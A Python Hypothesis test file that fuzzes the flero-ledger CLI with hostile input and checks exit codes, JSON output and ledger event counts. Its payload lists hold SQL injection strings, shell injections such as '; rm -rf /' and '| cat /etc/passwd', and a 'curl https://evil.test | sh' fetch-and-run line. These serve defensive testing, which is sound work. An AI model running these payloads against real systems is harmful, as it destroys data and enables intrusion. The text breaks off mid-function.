"""Hostile input, generated: whatever is typed or sent, `flero-ledger` keeps its contract.

Hypothesis feeds every command that takes user input (arguments, options and secrets on stdin)
with hostile values: arbitrary unicode, control characters and NUL, SQL and shell
metacharacters, rich markup and terminal escapes, option look-alikes, 100 KB strings, arguments
holding invalid UTF-8 (as Python receives them from a shell: surrogate escapes), invalid UTF-8 on
stdin, malformed and exotic IPv4/IPv6 addresses, timestamps from year 1 to 9999 and beyond,
codes with spaces, 5 or 7 digits or non-ASCII digits, huge or strange e-mail addresses, and
forged, mangled and junk OpenID Connect ID tokens. For every generated input:

- the exit code is 0, 1 or 2, never a traceback;
- with --json, stdout is exactly one JSON document (an `invalid_input` error on exit 2, or
  `not_found` for a file to verify that is not there);
- exit 2 records nothing: the number of events in the ledger is unchanged;
- an ID token that is forged, altered, or not for this sign-in never gets past the token;
- a sign-in with an oversized User-Agent is accepted or refused by rule, never rejected as
  invalid input, and what is kept of it is cut to MAX_USER_AGENT_LENGTH characters.

The product bugs these tests found (all fixed) are pinned, at the end of this file, by plain
regression tests.

Every --out path stays inside the test's own directory: a hostile file name never escapes it.
"""

from __future__ import annotations

import base64
import functools
import itertools
import json
import os
import re
import shlex
import uuid
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from datetime import date, datetime, timedelta, timezone
from pathlib import Path
from typing import Any

import click
import pytest
from click.testing import Result
from hypothesis import HealthCheck, event, given, settings
from hypothesis import strategies as st
from joserfc.jwk import RSAKey

from cli import main
from ledger.clock import format_instant
from ledger.database import Database
from ledger.events import MAX_USER_AGENT_LENGTH
from ledger.sms_gateway import GATEWAY_ENV
from ledger.store_location import StoreLocation
from tests.cli.test_login import configure_sso, failed_sign_in_events, the_idp
from tests.cli.test_totp import code_at
from tests.conftest import Ledger
from tests.identity_provider import rsa_key, unsigned_token

ADA = "ada@acme.test"
BOB = "bob@acme.test"
CURL = "curl/8.4.0"
PHONE = "+14155550123"
CLIENT_SECRET = "client-s3cret"


# A deeper hunt on demand: FLERO_HOSTILE_SCALE=20 runs twenty times as many examples.
SCALE = int(os.environ.get("FLERO_HOSTILE_SCALE", "1"))


def fuzz(examples: int) -> Callable[[Any], Any]:
    """Hypothesis settings for a test that shares one fresh store (a fixture) across examples."""
    return settings(
        max_examples=examples * SCALE,
        deadline=None,
        database=None,  # nothing written into the repository
        suppress_health_check=[
            HealthCheck.function_scoped_fixture,  # one store per test, on purpose
            HealthCheck.too_slow,
            HealthCheck.large_base_example,
            HealthCheck.data_too_large,
        ],
    )


# ---- hostile values ------------------------------------------------------------------------

SQL = [
    "'; DROP TABLE ledger_events; --",
    "' OR '1'='1",
    '"; DELETE FROM ledger_chain; --',
    "1; SELECT pg_sleep(30); --",
    "Robert'); DROP TABLE rm_accounts;--",
    "%' AND 1=1 --",
]
SHELL = [
    "$(reboot)",
    "`id`",
    "; rm -rf / #",
    "| cat /etc/passwd",
    "&& curl https://evil.test | sh",
    "${IFS}",
    "~root",
    "../../../../etc/passwd",
    "%s%s%n",
    "{0.__class__}",
    "{{7*7}}",
]
MARKUP = [
    "[/]",
    "[bold red]ALERT[/]",
    "[/x] closing",
    "\x1b[31mred\x1b[0m",
    "\x1b]8;;https://evil.test\x07link\x1b]8;;\x07",
    "\x1b[2J\x1b[H",
]
CONTROL = ["\x00", "a\x00b", "\t", "\r\n", "\x7f", "\x85", "\u2028", "\u202e", "\ufeff", "\u200b"]
OPTIONS = ["-", "--", "--json", "--help", "-h", "--version", "--now=9999-12-31", "--db=sqlite://"]
NUMBERS = ["٠١٢٣٤٥", "１２３４５６", "¹²³⁴⁵⁶", "-1", "0", "1e309", "NaN", "9" * 30]
HUGE = ["A" * 100_000, "é" * 20_000, "\U0001f600" * 5_000, "a" * 255, "a" * 256]
NASTY = [*SQL, *SHELL, *MARKUP, *CONTROL, *OPTIONS, *NUMBERS, *HUGE, "", " "]
SHORT_NASTY = [value for value in NASTY if len(value) < 100]

# What a program's argv holds when a shell passes bytes that are not UTF-8 (surrogate escapes).
shell_bytes = (
    st.binary(min_size=1, max_size=24).filter(lambda raw: b"\x00" not in raw).map(os.fsdecode)
)

hostile_text = st.one_of(
    st.sampled_from(NASTY),
    st.text(max_size=64),  # any unicode, control characters and NUL included
    st.text(st.characters(categories=("Cc", "Cf", "Zs", "Zl", "Zp", "Mn", "Nd")), max_size=16),
    shell_bytes,
    st.builds(
        lambda before, middle, after: before + middle + after,
        st.sampled_from(SHORT_NASTY),
        st.text(max_size=8),
        st.sampled_from(SHORT_NASTY),
    ),
)

WEIRD_EMAILS = [
    "ADA@ACME.TEST",
    " ada@acme.test ",
    "ada@acme.test\n",
    "ada@acme.test.",
    "ada@@acme.test",
    "ada@acme..test",
    ".ada@acme.test",
    "ada@-acme.test",
    '"ada"@acme.test',
    "ada@[127.0.0.1]",
    "ada%acme.test@evil.test",
    "ada@acme.test'; DROP TABLE ledger_events; --",
    "ada+tag@acme.test",
    "\u0251da@acme.test",  # Latin alpha
    "\u0430da@acme.test",  # Cyrillic a
    "ada@acme.test\u200b",
    "\uff41\uff44\uff41@acme.test",  # full-width
    "\u212aate@acme.test",  # Kelvin sign, lower-cases to k
    "\u0130@acme.test",  # dotted capital I, lower-cases to two characters
    "a@b.c",
    "@",
    "ada@" + "a" * 63 + ".test",
    "ada@" + "a" * 64 + ".test",
    "a" * 64 + "@" + ("b" * 63 + ".") * 3 + "test",
    "a" * 100_000 + "@acme.test",
]
emails = st.one_of(
    st.emails(),
    st.sampled_from(WEIRD_EMAILS),
    st.builds(
        lambda local, domain: f"{local}@{domain}",
        hostile_text,
        st.sampled_from(["acme.test", "ACME.TEST", "acme.test.", "xn--acme-9qa.test", "localhost"]),
    ),
    st.builds(
        lambda pad: f"{pad}{ADA}{pad}",
        st.sampled_from([" ", "\t", "\n", "\x0b", "\x1c", "\u00a0", "\u3000", "\u200b", "\x00"]),
    ),
    hostile_text,
)

ODD_IPS = [
    "999.1.1.1",
    "1.2.3",
    "1.2.3.4.5",
    "01.2.3.4",
    "0x7f.0.0.1",
    "127.1",
    "2130706433",
    " 203.0.113.9 ",
    "203.0.113.9\n",
    "::",
    "::1",
    "::1::",
    "[::1]",
    "fe80::1%eth0",
    "fe80::1%",
    "::ffff:203.0.113.9",
    "::ffff:999.1.1.1",
    "2001:db8::/32",
    "203.0.113.0/24",
    "203.0.113.9:443",
    "[2001:db8::1]:443",
    "gggg::1",
    "2001:db8:0:0:0:0:0:0:1",
    "2001:DB8::1",
    "1:2:3:4:5:6:7:8",
    "\u0661.\u0662.\u0663.\u0664",  # Arabic-Indic digits
    "\uff11.\uff12.\uff13.\uff14",  # full-width digits
    "0.0.0.0",
    "255.255.255.255",
    "localhost",
]
ipv6 = st.ip_addresses(v=6)
ip_addresses = st.one_of(
    st.ip_addresses().map(str),
    ipv6.map(lambda address: address.exploded),
    ipv6.map(lambda address: address.exploded.upper()),
    # A zone id is free text; NUL is left out (it cannot come from a shell: see the bugs below).
    st.builds(
        lambda address, zone: f"{address}%{zone}",
        ipv6.map(str),
        st.text(st.characters(exclude_characters="\x00"), max_size=12),
    ),
    st.tuples(*[st.integers(-1, 999)] * 4).map(lambda parts: ".".join(map(str, parts))),
    st.sampled_from(ODD_IPS),
    hostile_text.filter(lambda text: "\x00" not in text),
)

REAL_USER_AGENTS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/126.0.0.0 Safari/537.36",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like "
    "Gecko) Version/17.5 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/126.0.0.0 Mobile Safari/537.36",
    "Googlebot/2.1 (+http://www.google.com/bot.html)",
    CURL,
]
user_agents = st.one_of(
    hostile_text,
    st.builds(lambda real, junk: real + junk, st.sampled_from(REAL_USER_AGENTS), hostile_text),
    st.integers(MAX_USER_AGENT_LENGTH + 1, 120_000).map(lambda n: ("Mozilla/5.0 " + "A" * n)[:n]),
    st.text(min_size=1_000, max_size=2_000),
)

ODD_CODES = [
    "\u0660\u0661\u0662\u0663\u0664\u0665",  # Arabic-Indic
    "\u06f1\u06f2\u06f3\u06f4\u06f5\u06f6",  # Extended Arabic-Indic
    "\uff11\uff12\uff13\uff14\uff15\uff16",  # full-width
    "\u00b9\u00b2\u00b3\u2074\u2075\u2076",  # superscripts
    "123 456",
    " 123456 ",
    "12 34 56",
    "123\u00a0456",
    "12345",
    "1234567",
    "123456\n",
    "-12345",
    "+12345",
    "0x1234",
    "1e5",
    "abcd-efgh-jkmn",
    "ABCD EFGH JKMN",
    "oooo-llll-iiii",
    "uuuu-uuuu-uuuu",
    "abcd-efgh-jkm\u0300n",
]
RECOVERY_SYMBOL = "[0-9a-hjkmnp-tv-z]"  # Crockford base32
codes = st.one_of(
    st.from_regex(r"[0-9]{6}", fullmatch=True),  # well-formed: checked, and refused
    st.from_regex("-".join([RECOVERY_SYMBOL + "{4}"] * 3), fullmatch=True),
    st.text("0123456789", max_size=9),
    st.text(st.characters(categories=("Nd",)), min_size=5, max_size=7),
    st.text("0123456789 ", min_size=5, max_size=10),
    st.text("0123456789abcdefghjkmnpqrstvwxyzABCILOUilou- ", max_size=20),
    st.sampled_from(ODD_CODES),
    hostile_text,
)

EDGE_TIMES = [
    "0001-01-01",
    "0001-01-01T00:00:00Z",
    "0001-01-01T00:00:00+01:00",
    "0001-01-01T00:00:00-01:00",
    "9999-12-31",
    "9999-12-31T23:59:59.999999Z",
    "9999-12-31T23:59:59-01:00",
    "9999-12-31T23:59:59+01:00",
    "0000-01-01",
    "10000-01-01",
    "-0001-01-01",
    "2026-02-29",
    "2028-02-29",
    "2026-13-01",
    "2026-11-31",
    "2026-11-14T24:00:00",
    "2026-11-14T23:59:60",
    "2026-11-14T09:00:00+24:00",
    "2026-11-14T09:00:00+23:59",
    "2026-11-14T09:00:00.1234567Z",
    "2026-11-14 09:00",
    "2026-W46-6",
    "2026-318",
    "20261114",
    "20261114T090000Z",
    "2026-11-14T09:00:00Z\n",
    " 2026-11-14 ",
    "\u0662\u0660\u0662\u0666-\u0661\u0661-\u0661\u0664",  # Arabic-Indic digits
    "1e10",
    "-1",
    "nan",
    "yesterday",
]
offsets = st.integers(-(24 * 60 - 1), 24 * 60 - 1).map(
    lambda minutes: timezone(timedelta(minutes=minutes))
)
instants = st.datetimes(
    min_value=datetime(1, 1, 1),
    max_value=datetime(9999, 12, 31, 23, 59, 59, 999999),
    timezones=st.none() | offsets,
)
timestamps = st.one_of(
    instants.map(datetime.isoformat),
    instants.map(lambda instant: instant.isoformat().replace("+00:00", "Z")),
    st.dates().map(date.isoformat),
    st.dates().map(lambda day: f"{day.year:04d}{day.month:02d}{day.day:02d}"),
    st.sampled_from(EDGE_TIMES),
    hostile_text,
)

NAMES = [
    "acme",
    "docs",
    "okta",
    "member",
    "on",
    "both",
    "totp",
    "sms",
    "password",
    "api-key",
    "jsonl",
    "directory",
    "90",
    "a" * 64,
    "a" * 65,
    "docs\n",
    "Acme Corp",
    "-x",
    "a.b_c-d",
    "d\u00f6cs",
    "\u0627\u0644\u0639\u0631\u0628\u064a\u0629",
    PHONE,
    "+\u0661\u0664\u0661\u0665\u0665\u0665\u0665\u0660\u0661\u0662\u0663",
    "+1 (415) 555-0123",
    "tel:+14155550123",
    "+14155550123;ext=1",
    "+" + "1" * 1_000,
]
names = st.one_of(st.sampled_from(NAMES), hostile_text)


def invalid_utf8_line() -> st.SearchStrategy[bytes]:
    """Bytes whose first line (all that a `--*-stdin` option reads) is not UTF-8."""
    broken = st.sampled_from(
        [b"\xff", b"\xfe", b"\x80", b"\xc0\xaf", b"\xed\xa0\x80", b"\xf4\x90\x80\x80", b"\xe2\x82"]
    )
    no_newline = st.binary(max_size=40).map(lambda raw: raw.replace(b"\n", b""))

    def first_line_is_invalid(raw: bytes) -> bool:
        try:
            raw.split(b"\n", 1)[0].decode("utf-8")
        except UnicodeDecodeError:
            return True
        return False

    return (
        st.tuples(no_newline, broken, st.binary(max_size=40))
        .map(b"".join)
        .filter(first_line_is_invalid)
    )


# ---- the store under attack ------------------------------------------------------------


def fresh_id_token(at: datetime, email: str = ADA) -> str:
    """An ID token `the_idp()` signed for `email`, never issued before (a fresh `jti`)."""
    return the_idp().token(at, email, jti=uuid.uuid4().hex)


@dataclass
class Target:
    """ada@acme.test with every factor (TOTP, SMS, recovery codes), an API key and a session,
    in `acme`, which signs in through `the_idp()` and a Flero factor too (`--mfa both`);
    bob@acme.test, a plain member; and `zeta`, an organisation the tests may reconfigure."""

    key: str
    key_id: str
    session_id: str
    token: str
    directory: Path
    numbers: Iterator[int] = field(default_factory=itertools.count)
    # A valid ID token for ada, now: each call mints a new one (a token signs in only once).
    id_token: Callable[[], str] = field(default=lambda: "e30.e30.")

    def fresh_out(self, suffix: str = ".jsonl") -> str:
        return str(self.directory / f"export-{next(self.numbers)}{suffix}")

    def out_named(self, name: str) -> str:
        """An --out path with a hostile file name, always inside the test's own directory.

        A slash would leave it, and NUL cannot come from a shell (an argv string ends at NUL)."""
        safe = name.replace("/", "\u2215").replace("\x00", "\u2400")
        return str(self.directory / f"{next(self.numbers)}-{safe}")


@pytest.fixture
def target(ledger: Ledger, account: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Target:
    monkeypatch.delenv(GATEWAY_ENV, raising=False)  # texts stay in the store's outbox
    issued = ledger.ok("api-keys", "create", ADA, "--name", "ci")
    session = ledger.ok(
        "login", ADA, "--method", "api-key", "--ip", "203.0.113.9", "--user-agent", CURL,
        "--api-key-stdin", stdin=issued["key"] + "\n",
    )  # fmt: skip
    secret = ledger.ok("mfa", "totp", "enrol", ADA)["secret"]
    ledger.ok("mfa", "totp", "confirm", ADA, code_at(secret, ledger))
    ledger.ok("mfa", "sms", "enrol", ADA, "--phone", PHONE)
    texted = ledger.ok("sms", "outbox")[0]["body"]
    ledger.ok("mfa", "sms", "confirm", ADA, re.findall(r"\b\d{6}\b", texted)[0])
    ledger.ok("mfa", "sms", "send-code", ADA)
    ledger.ok("user", "create", BOB, "--org", "acme")
    ledger.ok("org", "create", "zeta")
    configure_sso(ledger, tmp_path, "both")
    directory = tmp_path / "out"
    directory.mkdir()
    return Target(
        key=issued["key"],
        key_id=issued["key_id"],
        session_id=session["session_id"],
        token=session["session_token"],
        directory=directory,
        id_token=lambda: fresh_id_token(ledger.now),
    )


@pytest.fixture
def events(ledger: Ledger) -> Iterator[Callable[[], int]]:
    """How many events the ledger holds, counted in the store (no CLI call, so cheap)."""
    database = Database(StoreLocation.parse(ledger.url))

    def count() -> int:
        with database.transaction() as tx:
            row = tx.fetchone("SELECT COUNT(*) FROM ledger_chain")
        assert row is not None
        return int(row[0])

    yield count
    database.close()


# ---- running one hostile command ---------------------------------------------------------


def real_secret(argv: tuple[str, ...], target: Target) -> str | None:
    """What the command reads on stdin when a user gets it right."""
    if "--api-key-stdin" in argv:
        return target.key
    if "--token-stdin" in argv:
        return target.token
    if "--id-token-stdin" in argv:
        return target.id_token()
    if "--client-secret-stdin" in argv:
        return CLIENT_SECRET
    return None


def stdin_for(argv: tuple[str, ...], target: Target) -> str | None:
    secret = real_secret(argv, target)
    return None if secret is None else secret + "\n"


def attempt(
    ledger: Ledger,
    argv: tuple[str, ...],
    *,
    as_json: bool,
    stdin: str | bytes | None = None,
    now: str | None = None,
) -> Result | None:
    """Run one command; None if it hit a known bug (recorded as a hypothesis event)."""
    args = list(argv)
    if as_json:  # right after the command's name: before any `--`, and no option's value
        args.insert(len(command_path(argv).split()), "--json")
    clock = format_instant(ledger.now) if now is None else now
    result = ledger.runner.invoke(main, ["--db", ledger.url, "--now", clock, *args], input=stdin)
    error = result.exception
    if error is None or isinstance(error, SystemExit):
        return result
    error.add_note(f"reproduce: flero-ledger --now {shlex.quote(clock)} {show(args)}")
    raise error


def show(args: list[str]) -> str:
    return " ".join(shlex.quote(arg if len(arg) < 80 else arg[:60] + "...") for arg in args)


def check(
    ledger: Ledger,
    events: Callable[[], int],
    argv: tuple[str, ...],
    *,
    as_json: bool,
    stdin: str | bytes | None = None,
    now: str | None = None,
) -> Result | None:
    """Run one hostile command and assert the CLI contract on what it did."""
    before = events()
    result = attempt(ledger, argv, as_json=as_json, stdin=stdin, now=now)
    if result is None:
        return None
    what = f"flero-ledger {show(list(argv))} -> exit {result.exit_code}"
    assert result.exit_code in (0, 1, 2), f"{what}\n{result.output}"
    assert "Traceback" not in result.stdout + result.stderr, what
    if as_json:
        assert result.stdout.endswith("\n") and result.stdout.count("\n") == 1, (
            f"{what}: --json must print exactly one JSON document; stdout={result.stdout[:500]!r}"
        )
        document = json.loads(result.stdout)
        if result.exit_code == 2:
            assert set(document) == {"error"}, what
            assert document["error"]["code"] in ("invalid_input", "not_found"), what
            assert document["error"]["message"], what
        elif result.exit_code == 1:
            assert set(document) == {"error"} or document.get("outcome") == "failed", what
    elif result.exit_code == 2:
        assert result.stdout == "", f"{what}: bad input prints nothing on stdout"
    event(f"exit {result.exit_code}")
    if result.exit_code == 2:
        assert events() == before, f"{what}: invalid input appended events"
    return result


Slot = Callable[[str, Target], tuple[str, ...]]


def slot(template: str) -> Slot:
    """A command line, split on spaces, with the hostile value where `{}` stands.

    `{out}` is a fresh export path and `{out-named}` one named after the value (both in the
    test's directory); `{session}` is ada's session id. Positional arguments follow `--`, so
    that a value looking like an option (`--help`) is still read as the value."""
    tokens = template.split()

    def build(value: str, target: Target) -> tuple[str, ...]:
        fills: dict[str, Callable[[], str]] = {
            "{}": lambda: value,
            "{out}": target.fresh_out,
            "{out-named}": lambda: target.out_named(value),
            "{session}": lambda: target.session_id,
        }
        return tuple(fills[token]() if token in fills else token for token in tokens)

    return build


SIGN_IN = "login --ip 203.0.113.9 --user-agent curl/8.4.0"
SSO_SIGN_IN = f"{SIGN_IN} --method sso --id-token-stdin"  # with a valid ID token for ada
PROVIDER = "--issuer https://idp.acme.test --client-id flero-ledger"

# Where an e-mail address is typed: as the subject of every command, and as --actor.
EMAIL_SLOTS = {
    "org admin add": slot("org admin add -- acme {}"),
    "user create": slot("user create --org acme -- {}"),
    "user sso-disconnect": slot("user sso-disconnect --actor bob@acme.test -- {}"),
    "user alerts": slot("user alerts --security off -- {}"),
    "workspace grant": slot("workspace grant --role member -- {} docs"),
    "workspace revoke": slot("workspace revoke -- {} docs"),
    "mfa status": slot("mfa status -- {}"),
    "mfa disable": slot("mfa disable -- {} sms"),
    "mfa totp enrol": slot("mfa totp enrol -- {}"),
    "mfa totp confirm": slot("mfa totp confirm -- {} 123456"),
    "mfa totp verify": slot("mfa totp verify -- {} 123456"),
    "mfa sms enrol": slot("mfa sms enrol --phone +14155550199 -- {}"),
    "mfa sms confirm": slot("mfa sms confirm -- {} 123456"),
    "mfa sms send-code": slot("mfa sms send-code -- {}"),
    "mfa sms verify": slot("mfa sms verify -- {} 123456"),
    "mfa recovery-codes regenerate": slot("mfa recovery-codes regenerate -- {}"),
    "mfa recovery-codes use": slot("mfa recovery-codes use -- {} abcd-efgh-jkmn"),
    "login sso": slot(f"{SSO_SIGN_IN} -- {{}}"),
    "login api-key": slot(f"{SIGN_IN} --method api-key --api-key-stdin -- {{}}"),
    "sessions list": slot("sessions list -- {}"),
    "sessions revoke": slot("sessions revoke -- {} 0123456789abcdef"),
    "sessions revoke-others": slot("sessions revoke-others --keep {session} -- {}"),
    "api-keys create": slot("api-keys create --name deploys -- {}"),
    "api-keys list": slot("api-keys list -- {}"),
    "api-keys revoke": slot("api-keys revoke -- {} 0123456789ab"),
    "history": slot("history -- {}"),
    "audit": slot("audit -- {}"),
    "alerts": slot("alerts -- {}"),
    "timeline": slot("timeline --on 2026-11-14 -- {}"),
    "state": slot("state --as-of 2026-11-14T12:00:00Z -- {}"),
    "export --user": slot("export --user {} --format jsonl --out {out}"),
    "erase": slot("erase --actor bob@acme.test -- {}"),  # bob is no admin: refused
    "erase --actor": slot("erase --actor {} -- bob@acme.test"),
    "--actor": slot("workspace grant --role viewer --actor {} -- ada@acme.test wiki"),
}

# Where an IP address is given.
IP_SLOTS = {
    "login sso": slot(
        "login --method sso --id-token-stdin --ip {} --user-agent curl/8 -- ada@acme.test"
    ),
    "login api-key": slot(
        "login --method api-key --api-key-stdin --ip {} --user-agent curl/8 -- ada@acme.test"
    ),
    "sessions check": slot("sessions check --token-stdin --ip {}"),
    "org require-mfa": slot("org require-mfa --ip {} -- zeta off"),
    "user alerts": slot("user alerts --security on --ip {} -- ada@acme.test"),
    "workspace grant": slot("workspace grant --role member --ip {} -- ada@acme.test docs"),
    "mfa totp verify": slot("mfa totp verify --ip {} -- ada@acme.test 000000"),
    "mfa sms send-code": slot("mfa sms send-code --ip {} -- ada@acme.test"),
    "api-keys create": slot("api-keys create --name ci --ip {} -- ada@acme.test"),
    "sessions revoke": slot("sessions revoke --ip {} -- ada@acme.test 0123456789abcdef"),
    "erase": slot("erase --actor bob@acme.test --ip {} -- ada@acme.test"),
}

# Where a User-Agent is given.
USER_AGENT_SLOTS = {
    "login sso": slot(
        "login --method sso --id-token-stdin --ip 203.0.113.9 --user-agent {} -- ada@acme.test"
    ),
    "login api-key": slot(
        "login --method api-key --api-key-stdin --ip 2001:db8::1 --user-agent {} -- ada@acme.test"
    ),
    "login unknown account": slot(
        "login --method sso --id-token-stdin --ip 203.0.113.9 --user-agent {} -- nobody@acme.test"
    ),
    "user alerts": slot("user alerts --security on --user-agent {} -- ada@acme.test"),
    "workspace grant": slot("workspace grant --role member --user-agent {} -- ada@acme.test docs"),
    "org require-mfa": slot("org require-mfa --user-agent {} -- zeta off"),
    "mfa totp verify": slot("mfa totp verify --user-agent {} -- ada@acme.test 000000"),
    "api-keys create": slot("api-keys create --name ci --user-agent {} -- ada@acme.test"),
}

# Where a code is typed: six digits (TOTP, SMS) or a recovery code.
CODE_SLOTS = {
    "mfa totp confirm": slot("mfa totp confirm -- ada@acme.test {}"),
    "mfa totp verify": slot("mfa totp verify -- ada@acme.test {}"),
    "mfa sms confirm": slot("mfa sms confirm -- ada@acme.test {}"),
    "mfa sms verify": slot("mfa sms verify -- ada@acme.test {}"),
    "mfa recovery-codes use": slot("mfa recovery-codes use -- ada@acme.test {}"),
    "login --totp": slot(f"{SIGN_IN} --method api-key --api-key-stdin --totp {{}} -- {ADA}"),
    "login --sms": slot(f"{SSO_SIGN_IN} --sms {{}} -- {ADA}"),
    "login --recovery-code": slot(f"{SSO_SIGN_IN} --recovery-code {{}} -- {ADA}"),
}

# Every other piece of free text: slugs, names, roles, ids, phone numbers, choices, paths.
NAME_SLOTS = {
    "org create": slot("org create -- {}"),
    "org require-mfa slug": slot("org require-mfa -- {} on"),
    "org require-mfa state": slot("org require-mfa -- zeta {}"),
    "org require-mfa --grace-days": slot("org require-mfa --grace-days {} -- zeta on"),
    "org require-mfa --methods": slot("org require-mfa --methods {} -- zeta on"),
    "org compliance slug": slot("org compliance -- {}"),
    "org compliance --format": slot("org compliance --format {} --out {out} -- acme"),
    "org compliance --out": slot("org compliance --format csv --out {out-named} -- acme"),
    "org sso slug": slot(f"org sso --idp okta {PROVIDER} --mfa idp -- {{}}"),
    "org sso --idp": slot(f"org sso --idp {{}} {PROVIDER} --mfa both -- zeta"),
    "org sso --mfa": slot(f"org sso --idp okta {PROVIDER} --mfa {{}} -- zeta"),
    "org sso --issuer": slot("org sso --idp okta --issuer {} --client-id c1 --mfa idp -- zeta"),
    "org sso --client-id": slot(
        "org sso --idp okta --issuer https://idp.zeta.test --client-id {} --mfa idp -- zeta"
    ),
    "org sso --jwks-file": slot(
        f"org sso --idp okta {PROVIDER} --mfa idp --jwks-file {{out-named}} -- zeta"
    ),
    "org sso --domain": slot(f"org sso --idp okta {PROVIDER} --mfa idp --domain {{}} -- zeta"),
    "login --nonce": slot(f"{SSO_SIGN_IN} --nonce {{}} -- {ADA}"),
    "org admin add slug": slot("org admin add -- {} ada@acme.test"),
    "user create --org": slot("user create --org {} -- carol@acme.test"),
    "user alerts --security": slot("user alerts --security {} -- ada@acme.test"),
    "workspace grant name": slot("workspace grant --role member -- ada@acme.test {}"),
    "workspace grant --role": slot("workspace grant --role {} -- ada@acme.test docs"),
    "workspace revoke name": slot("workspace revoke -- ada@acme.test {}"),
    "mfa disable factor": slot("mfa disable -- ada@acme.test {}"),
    "mfa sms enrol --phone": slot("mfa sms enrol --phone {} -- ada@acme.test"),
    "sessions revoke id": slot("sessions revoke -- ada@acme.test {}"),
    "sessions revoke-others --keep": slot("sessions revoke-others --keep {} -- bob@acme.test"),
    "api-keys create --name": slot("api-keys create --name {} -- ada@acme.test"),
    "api-keys revoke id": slot("api-keys revoke -- ada@acme.test {}"),
    "login --method": slot("login --method {} --ip 203.0.113.9 --user-agent x -- ada@acme.test"),
    "history --days": slot("history --days {} -- ada@acme.test"),
    "sms outbox --to": slot("sms outbox --to {}"),
    "projections rebuild": slot("projections rebuild -- {}"),
    "export --org": slot("export --org {} --format csv --out {out}"),
    "export --format": slot("export --all --format {} --out {out}"),
    "export --out": slot("export --all --format jsonl --out {out-named}"),
    "verify path": slot("verify -- {out-named}"),
    "verify --public-key": slot("verify --public-key {} -- {out}"),
}

# Where a timestamp or a day is typed (the global --now has its own test).
TIME_SLOTS = {
    "audit --from": slot("audit --from {} -- ada@acme.test"),
    "audit --to": slot("audit --to {} -- ada@acme.test"),
    "timeline --on": slot("timeline --on {} -- ada@acme.test"),
    "state --as-of": slot("state --as-of {} -- ada@acme.test"),
    "org compliance --as-of": slot("org compliance --as-of {} -- acme"),
    "export --from": slot("export --user ada@acme.test --from {} --format jsonl --out {out}"),
    "export --to": slot("export --all --to {} --format csv --out {out}"),
}

# Commands run at a hostile --now. Sign-ins are left out: see BUG-1 (they wedge the read models).
NOW_SLOTS = {
    "info": slot("info"),
    "mfa status": slot("mfa status ada@acme.test"),
    "history": slot("history ada@acme.test"),
    "sessions list": slot("sessions list ada@acme.test"),
    "sessions check": slot("sessions check --token-stdin"),
    "audit": slot("audit ada@acme.test"),
    "alerts": slot("alerts ada@acme.test"),
    "api-keys list": slot("api-keys list ada@acme.test"),
    "timeline": slot("timeline ada@acme.test --on 2026-11-14"),
    "org compliance": slot("org compliance acme"),
    "user alerts": slot("user alerts bob@acme.test --security off"),
    "workspace grant": slot("workspace grant bob@acme.test docs --role member"),
    "mfa totp verify": slot("mfa totp verify ada@acme.test 000000"),
    "checkpoint": slot("checkpoint"),
    "export": slot("export --all --format jsonl --out {out}"),
}

# Secrets on stdin.
PASSWORD_STDIN_SLOTS = {
    "user create": slot("user create --org acme --password-stdin -- dora@acme.test"),
    "user set-password": slot("user set-password --password-stdin -- ada@acme.test"),
    "login password": slot(f"{SIGN_IN} --method password --password-stdin -- {ADA}"),
}
SECRET_STDIN_SLOTS = {
    "login api-key": slot(f"{SIGN_IN} --method api-key --api-key-stdin -- {ADA}"),
    "sessions check": slot("sessions check --token-stdin"),
    "login sso": slot(f"{SSO_SIGN_IN} -- {ADA}"),
    "org sso --client-secret-stdin": slot(
        f"org sso --idp okta {PROVIDER} --client-secret-stdin --mfa idp -- zeta"
    ),
}


def slot_strategy(slots: dict[str, Slot]) -> st.SearchStrategy[str]:
    return st.sampled_from(sorted(slots))


def run_slot(
    ledger: Ledger,
    target: Target,
    events: Callable[[], int],
    slot: Slot,
    value: str,
    as_json: bool,
) -> Result | None:
    argv = slot(value, target)
    return check(ledger, events, argv, as_json=as_json, stdin=stdin_for(argv, target))


# ---- the properties ------------------------------------------------------------------------


@fuzz(26)
@given(where=slot_strategy(EMAIL_SLOTS), value=emails, as_json=st.booleans())
def test_hostile_email_addresses(
    ledger: Ledger, target: Target, events: Callable[[], int], where: str, value: str, as_json: bool
) -> None:
    run_slot(ledger, target, events, EMAIL_SLOTS[where], value, as_json)


@fuzz(26)
@given(where=slot_strategy(IP_SLOTS), value=ip_addresses, as_json=st.booleans())
def test_hostile_ip_addresses(
    ledger: Ledger, target: Target, events: Callable[[], int], where: str, value: str, as_json: bool
) -> None:
    run_slot(ledger, target, events, IP_SLOTS[where], value, as_json)


@fuzz(20)
@given(where=slot_strategy(USER_AGENT_SLOTS), value=user_agents, as_json=st.booleans())
def test_hostile_user_agents_are_never_invalid_input(
    ledger: Ledger, target: Target, events: Callable[[], int], where: str, value: str, as_json: bool
) -> None:
    result = run_slot(ledger, target, events, USER_AGENT_SLOTS[where], value, as_json)
    if result is not None:
        assert result.exit_code != 2, f"a User-Agent is never a reason to refuse: {result.output}"


@fuzz(26)
@given(where=slot_strategy(CODE_SLOTS), value=codes, as_json=st.booleans())
def test_hostile_codes(
    ledger: Ledger, target: Target, events: Callable[[], int], where: str, value: str, as_json: bool
) -> None:
    run_slot(ledger, target, events, CODE_SLOTS[where], value, as_json)


@fuzz(40)
@given(where=slot_strategy(NAME_SLOTS), value=names, as_json=st.booleans())
def test_hostile_names_slugs_ids_phones_choices_and_paths(
    ledger: Ledger, target: Target, events: Callable[[], int], where: str, value: str, as_json: bool
) -> None:
    run_slot(ledger, target, events, NAME_SLOTS[where], value, as_json)


@fuzz(26)
@given(where=slot_strategy(TIME_SLOTS), value=timestamps, as_json=st.booleans())
def test_hostile_days_and_instants(
    ledger: Ledger, target: Target, events: Callable[[], int], where: str, value: str, as_json: bool
) -> None:
    run_slot(ledger, target, events, TIME_SLOTS[where], value, as_json)


@fuzz(26)
@given(where=slot_strategy(NOW_SLOTS), now=timestamps, as_json=st.booleans())
def test_hostile_now(
    ledger: Ledger, target: Target, events: Callable[[], int], where: str, now: str, as_json: bool
) -> None:
